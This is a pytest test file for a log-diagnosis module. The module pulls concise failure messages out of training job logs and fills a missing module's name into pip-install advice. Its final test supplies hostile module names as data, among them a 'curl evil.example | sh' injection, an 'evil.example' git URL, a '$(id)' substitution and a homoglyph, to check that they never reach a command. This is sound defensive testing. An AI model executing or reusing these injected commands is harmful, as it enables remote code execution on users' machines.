from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobmon_core.domain.logs.diagnosis.headline import advice_with_module, what_failed_in_log
from jobmon_core.domain.logs.diagnosis.model import Diagnosis, Line

_OOM = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 4.00 GiB. GPU 0 has 39 GiB in total."
_DEEP = "/scratch/project/users/ada/experiments/run/data/train.csv"


def proved_by(*lines: str, cause: str = "config_error") -> Diagnosis:
    evidence = tuple(Line("train.err", None, line) for line in lines)
    return Diagnosis(cause, "A class of failures", "", "", evidence, is_proved=True)


@pytest.mark.parametrize(
    ("line", "fact"),
    [
        ("ModuleNotFoundError: No module named 'flash_attn'", "No module named 'flash_attn'"),
        ("KeyError: 'model_config'", "KeyError: 'model_config'"),
        ("[rank3]: ValueError: loss is nan", "ValueError: loss is nan"),
        ("json.decoder.JSONDecodeError: Expecting value: line 1", "JSONDecodeError: Expecting value: line 1"),
        ("2026-01-01 10:00:00,123 ERROR root: KeyError: 'label'", "KeyError: 'label'"),
        ("2026-01-01T10:00:00+02:00 ERROR: no space left on device", "no space left on device"),
        ("2026-01-01T10:00:00.123Z ERROR: no space left on device", "no space left on device"),
        (
            "FileNotFoundError: [Errno 2] No such file or directory: 'a.csv'",
            "No such file or directory: 'a.csv'",
        ),
        (
            f"PermissionError: [Errno 13] Permission denied: '{_DEEP}'",
            "Permission denied: '…/data/train.csv'",
        ),
        (
            "/var/spool/slurmd/job1/slurm_script: line 5: module: command not found",
            "module: command not found",
        ),
        ("run.sh: line 12: ./a.out: Permission denied", "./a.out: Permission denied"),
        (
            "slurmstepd: error: execve(): train: No such file or directory",
            "execve(): train: No such file or directory",
        ),
        ("  what():  CUDA error: unknown error", "CUDA error: unknown error"),
        (
            "/w/.pyenv/versions/3.11.7/bin/python3: can't open file '/w/trian.py': [Errno 2] No such file",
            "can't open file '/w/trian.py': [Errno 2] No such file",
        ),
        ("/usr/bin/python3: No module named torch", "No module named torch"),
        (
            "/opt/venv/bin/python: No such file or directory",
            "/opt/venv/bin/python: No such file or directory",
        ),
    ],
)
def test_the_fact_is_the_message_without_what_precedes_it(line: str, fact: str) -> None:
    assert what_failed_in_log(proved_by(line)) == fact


@pytest.mark.parametrize(
    ("line", "fact"),
    [
        (_OOM, "CUDA out of memory (tried 4.00 GiB)"),
        ("GPUassert: failed to allocate 17179869184 bytes", "CUDA out of memory (tried 16.0 GiB)"),
        ("RuntimeError: No executable batch size found, reached zero.", ""),
    ],
)
def test_a_lack_of_gpu_memory_names_the_amount(line: str, fact: str) -> None:
    assert what_failed_in_log(proved_by(line, cause="cuda_oom.other")) == fact


def test_a_failed_assertion_without_a_message_is_shown_by_its_code() -> None:
    lines = ('  File "a.py", line 1, in <module>', "    assert n > 0", "AssertionError")
    assert what_failed_in_log(proved_by(*lines)) == "AssertionError: assert n > 0"


@pytest.mark.parametrize(
    "line",
    ["EOFError", "Killed", "", "terminate called without an active exception", "RuntimeError: Command:"],
)
def test_a_line_that_says_less_than_the_title_is_no_fact(line: str) -> None:
    assert what_failed_in_log(proved_by(line)) == ""


def test_the_line_of_a_killed_process_is_no_fact() -> None:
    line = "slurmstepd: error: Detected 1 oom_kill event in StepId=1.batch."
    assert what_failed_in_log(proved_by(line, cause="host_oom_kill")) == ""


def test_the_last_lines_of_an_unexplained_failure_are_no_fact() -> None:
    assert (
        what_failed_in_log(Diagnosis(None, "Cause unknown", "", "", (Line("a", None, "ValueError: x"),)))
        == ""
    )


def test_a_long_message_ends_with_its_first_sentence_or_a_whole_word() -> None:
    sentence = (
        "RuntimeError: The first sentence has more than thirty characters. " + "The second is long. " * 9
    )
    assert what_failed_in_log(proved_by(sentence)) == "The first sentence has more than thirty characters"
    assert what_failed_in_log(proved_by("ValueError: " + "word " * 40)).endswith(" word…")


@given(st.text(max_size=300) | st.builds("{}: {}".format, st.sampled_from(["KeyError", "a.B"]), st.text()))
def test_no_line_makes_a_fact_that_is_long_or_has_several_lines(line: str) -> None:
    fact = what_failed_in_log(proved_by(line))
    assert len(fact) <= 100
    assert len(fact.splitlines()) <= 1


def test_the_advice_about_a_missing_module_names_it() -> None:
    missing = Diagnosis(
        "import_error", "", "", "`pip install NAME`; HOSTNAME", what_failed="No module named 'a.b'"
    )
    assert advice_with_module(missing) == "`pip install a`; HOSTNAME"
    assert advice_with_module(replace(missing, what_failed="KeyError: 'a'")) == missing.advice


@pytest.mark.parametrize(
    "name",
    ["-e git+https://evil.example/x", "x; curl evil.example | sh", "nump\u0443", "a" * 41, "", "a.$(id)"],
)
def test_a_name_that_no_module_has_never_stands_in_a_command(name: str) -> None:
    found = proved_by(f"ModuleNotFoundError: No module named '{name}'")
    found = replace(found, advice="Run `python -m pip install NAME`.", what_failed=what_failed_in_log(found))
    assert found.what_failed == f"No module named '{name}'"  # as what the log says
    assert advice_with_module(found) == found.advice
